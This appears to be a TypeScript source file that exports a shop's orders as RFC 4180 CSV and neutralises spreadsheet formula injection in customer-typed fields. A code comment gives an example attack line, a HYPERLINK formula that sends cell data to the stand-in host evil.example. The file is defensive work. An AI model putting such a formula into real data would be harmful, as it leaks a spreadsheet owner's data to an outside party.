/*
 * The orders of a date range as CSV (GET /api/orders/export, docs/behaviour/api.md#kitchen), for
 * the owner's spreadsheet or bookkeeping: RFC 4180 (a header row, CRLF after every row, a field
 * quoted when it holds a comma, a double quote, CR or LF, its quotes doubled), one row per order
 * item, the order's own columns repeated on each of its rows. Times are the shop's wall clock.
 */
import { TZDate } from '@date-fns/tz';
import { format } from 'date-fns/format';
import { SHOP_TIME_ZONE } from '../fulfilment/schedule';
import { centsToApiDecimal } from '../order/api-money';
import { deliveryAddressText } from '../order/delivery-address-text';
import type { StoredOrder } from '../order/stored-order';
import { orderNumber } from '../order-number';

export const ORDERS_CSV_COLUMNS = [
  'order_number',
  'window_start',
  'window_end',
  'order_type',
  'status',
  'customer_name',
  'customer_phone',
  'customer_email',
  'delivery_address',
  'notes',
  'product',
  'quantity',
  'unit_price',
  'line_total',
  'order_total',
] as const;

const CRLF = '\r\n';
const NEEDS_QUOTES = /[",\r\n]/;

/** One field as RFC 4180 writes it: as is, or in double quotes with its own quotes doubled. */
export function csvField(value: string): string {
  return NEEDS_QUOTES.test(value) ? `"${value.replaceAll('"', '""')}"` : value;
}

/** Rows of fields as RFC 4180 text, every row ended by CRLF. */
export function csvText(rows: ReadonlyArray<readonly string[]>): string {
  return rows.map((row) => row.map(csvField).join(',') + CRLF).join('');
}

const FORMULA_START = /^[=+\-@\t\r]/;

/**
 * Text a customer typed, made safe to open in a spreadsheet. Excel, LibreOffice and Google Sheets
 * run a cell that starts with =, +, - or @ (or a tab or CR before one) as a formula: a customer
 * could name themselves `=HYPERLINK("https://evil.example/?"&A1,"Click")` and have the owner's
 * spreadsheet send data away or run commands (CSV injection, OWASP). A leading apostrophe makes
 * the spreadsheet show the cell as plain text. Only typed text is guarded: the numbers and times
 * this file writes itself never start with those characters.
 */
export function guardFormula(text: string): string {
  return FORMULA_START.test(text) ? `'${text}` : text;
}

/** 'YYYY-MM-DD HH:MM' on the shop's wall clock. */
export function shopDateTime(instant: Date): string {
  return format(new TZDate(instant.getTime(), SHOP_TIME_ZONE), 'yyyy-MM-dd HH:mm');
}

/** The rows of one order: one per item, the order's own fields on each. */
function orderRows(order: StoredOrder): string[][] {
  const window = order.fulfilmentWindow;
  const shared = [
    orderNumber(order.id),
    window ? shopDateTime(window.start) : '',
    window ? shopDateTime(window.end) : '',
    order.orderType,
    order.status,
    guardFormula(order.customerName),
    guardFormula(order.customerPhone),
    guardFormula(order.customerEmail ?? ''),
    guardFormula(deliveryAddressText(order.deliveryAddress) ?? ''),
    guardFormula(order.notes ?? ''),
  ];
  return order.items.map((item) => [
    ...shared,
    guardFormula(item.name),
    String(item.quantity),
    centsToApiDecimal(item.priceCents),
    centsToApiDecimal(item.totalCents),
    centsToApiDecimal(order.totalCents),
  ]);
}

/** The whole export: the header row, then every order's rows in the order given. */
export function ordersCsv(orders: readonly StoredOrder[]): string {
  return csvText([[...ORDERS_CSV_COLUMNS], ...orders.flatMap(orderRows)]);
}
